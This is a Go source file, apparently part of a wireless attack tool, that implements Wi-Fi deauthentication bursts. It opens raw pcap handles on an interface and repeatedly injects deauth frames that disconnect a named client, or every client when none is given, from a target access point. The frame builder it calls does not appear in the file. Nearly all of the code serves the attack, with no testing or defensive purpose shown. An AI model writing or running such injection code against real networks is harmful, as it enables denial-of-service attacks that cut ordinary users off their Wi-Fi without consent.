package injection

import (
	"context"
	"fmt"
	"net"
	"sync"
	"time"

	"github.com/google/gopacket/pcap"
)

// PacketInjector writes raw frames to one interface.
type PacketInjector interface {
	Inject(packet []byte) error
	Close()
}

type pcapInjector struct {
	handle *pcap.Handle
}

func openPcapInjector(iface string) (PacketInjector, error) {
	handle, err := pcap.OpenLive(iface, 1024, false, pcap.BlockForever)
	if err != nil {
		return nil, fmt.Errorf("pcap open on %s: %w", iface, err)
	}
	return &pcapInjector{handle: handle}, nil
}

func (p *pcapInjector) Inject(packet []byte) error {
	return p.handle.WritePacketData(packet)
}

func (p *pcapInjector) Close() {
	p.handle.Close()
}

// NativeInjector implements deauth bursts with gopacket-built frames over a
// per-interface pcap handle. Handles are opened lazily and reused; a failed
// interface gets a fresh open on the next burst.
type NativeInjector struct {
	mu      sync.Mutex
	handles map[string]PacketInjector
	open    func(iface string) (PacketInjector, error)
	seq     uint16
}

func NewNativeInjector() *NativeInjector {
	return &NativeInjector{
		handles: make(map[string]PacketInjector),
		open:    openPcapInjector,
	}
}

// Deauth sends a burst of frames deauthenticating client (or, with an empty
// client, everyone) from bssid, transmitting on iface.
func (n *NativeInjector) Deauth(ctx context.Context, iface, bssid, client string, frames int, timeout time.Duration) error {
	apMAC, err := net.ParseMAC(bssid)
	if err != nil {
		return fmt.Errorf("invalid BSSID %q: %w", bssid, err)
	}
	var clientMAC net.HardwareAddr
	if client != "" {
		clientMAC, err = net.ParseMAC(client)
		if err != nil {
			return fmt.Errorf("invalid client address %q: %w", client, err)
		}
	}

	injector, err := n.injector(iface)
	if err != nil {
		return err
	}

	if timeout > 0 {
		var cancel context.CancelFunc
		ctx, cancel = context.WithTimeout(ctx, timeout)
		defer cancel()
	}

	for i := 0; i < frames; i++ {
		if err := ctx.Err(); err != nil {
			return err
		}

		burst, err := buildDeauthFrames(apMAC, clientMAC, n.nextSeq())
		if err != nil {
			return err
		}
		for _, frame := range burst {
			if err := injector.Inject(frame); err != nil {
				n.dropInjector(iface)
				return fmt.Errorf("injecting on %s: %w", iface, err)
			}
		}
	}
	return nil
}

func (n *NativeInjector) injector(iface string) (PacketInjector, error) {
	n.mu.Lock()
	defer n.mu.Unlock()
	if inj, ok := n.handles[iface]; ok {
		return inj, nil
	}
	inj, err := n.open(iface)
	if err != nil {
		return nil, err
	}
	n.handles[iface] = inj
	return inj, nil
}

func (n *NativeInjector) dropInjector(iface string) {
	n.mu.Lock()
	defer n.mu.Unlock()
	if inj, ok := n.handles[iface]; ok {
		inj.Close()
		delete(n.handles, iface)
	}
}

func (n *NativeInjector) nextSeq() uint16 {
	n.mu.Lock()
	defer n.mu.Unlock()
	n.seq += 2
	return n.seq
}

// Close releases all open handles.
func (n *NativeInjector) Close() {
	n.mu.Lock()
	defer n.mu.Unlock()
	for iface, inj := range n.handles {
		inj.Close()
		delete(n.handles, iface)
	}
}
